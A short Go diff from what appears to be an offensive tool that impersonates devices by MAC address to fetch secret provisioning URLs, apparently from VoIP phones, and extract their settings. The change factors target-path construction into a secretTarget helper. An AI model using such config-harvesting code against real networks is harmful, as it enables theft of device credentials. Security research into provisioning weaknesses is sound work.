@@ -68,14 +68,22 @@ func (a *Attacker) grab(ctx context.Context, r *Attack, p *Profile, mac net.Hard
 			}
 			seen[path] = true
 			r.SecretURLs = append(r.SecretURLs, string(m[0]))
-			t := Target{Base: strings.TrimSuffix(base, "/") + path}
-			if !strings.HasSuffix(path, "/") {
-				t = Target{File: t.Base}
-			}
-			full, _ := p.walk(ctx, c, mac, t)
+			full, _ := p.walk(ctx, c, mac, secretTarget(base, path))
 			r.Lines = append(r.Lines, p.dialect.lines(full.Settings)...)
 		}
 	}
+}
+
+// secretTarget aims a secret path at base: its file if it names one
+// plainly, else the vendor's file names under its directory (a file
+// like $MA.xml is the phone's to expand).
+func secretTarget(base, path string) Target {
+	const dirLen = 1 + 24 + 1 + 24 + 1 // /<hash>/<hash>/
+	dir := strings.TrimSuffix(base, "/") + path[:dirLen]
+	if file := path[dirLen:]; file != "" && !strings.ContainsAny(file, "$%{") {
+		return Target{File: dir + file}
+	}
+	return Target{Base: dir}
 }
 
 // waitLinkLocal waits (bounded) until this host can send from its
